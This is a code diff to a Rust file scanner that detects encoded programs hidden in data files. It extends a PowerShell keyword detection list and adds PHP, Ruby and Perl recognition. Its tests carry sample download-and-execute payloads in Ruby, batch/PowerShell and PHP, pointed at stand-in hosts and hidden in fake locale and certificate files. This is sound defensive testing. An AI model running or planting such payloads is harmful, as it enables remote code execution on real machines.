@@ -96,8 +96,18 @@ struct Program {
 
 impl Program {
     fn of(text: String) -> Option<Self> {
-        const POWERSHELL: &[&str] =
-            &["iex ", "iex(", "|iex", "| iex", "invoke-", "new-object", "$env:", "start-process"];
+        const POWERSHELL: &[&str] = &[
+            "iex ",
+            "iex(",
+            "|iex",
+            "| iex",
+            "invoke-",
+            "new-object",
+            "$env:",
+            "start-process",
+            "powershell ",
+            "iwr ",
+        ];
         let begin = text.trim_start();
         let first = begin.lines().next().unwrap_or_default();
         let lower = begin.to_ascii_lowercase();
@@ -109,6 +119,12 @@ impl Program {
             Some(Language::of("", first, "").map_or(Reader::Shell, Reader::Other))
         } else if POWERSHELL.iter().any(|word| lower.contains(word)) {
             Some(Reader::PowerShell)
+        } else if begin.starts_with("<?php") {
+            Some(Reader::Other(Language::Php))
+        } else if begin.starts_with("require ") || lower.contains("net::http") {
+            Some(Reader::Other(Language::Ruby))
+        } else if begin.starts_with("use ") && begin.contains(';') {
+            Some(Reader::Other(Language::Perl))
         } else if is_python() {
             Some(Reader::Other(Language::Python))
         } else {
@@ -178,6 +194,24 @@ mod tests {
         ] {
             let settings = format!("{{\"seed\": \"{}\"}}", STANDARD.encode(text));
             assert!(of("data/settings.json", &settings).is_none_or(|found| found < Severity::Danger), "{text}");
+        }
+    }
+
+    #[test]
+    fn programs_of_other_languages_are_known_by_how_they_begin() {
+        for (path, program) in [
+            (
+                "locales/en.yml",
+                "require \"net/http\"; x = Net::HTTP.get(URI(\"https://p.invalid/en\")); system(\"sh\", \"-c\", x)",
+            ),
+            (
+                "certs/stamp.pem",
+                "@echo off\r\npowershell -w hidden -c \"iwr https://s.invalid/r -OutFile a.ps1; & ./a.ps1\"\r\n",
+            ),
+            ("x.dat", "<?php eval(file_get_contents('https://p.invalid/a'));"),
+        ] {
+            let blob = STANDARD.encode(program);
+            assert_eq!(of(path, &format!("rule: >\n  {blob}\n")), Some(Severity::Danger), "{program}");
         }
     }
 }
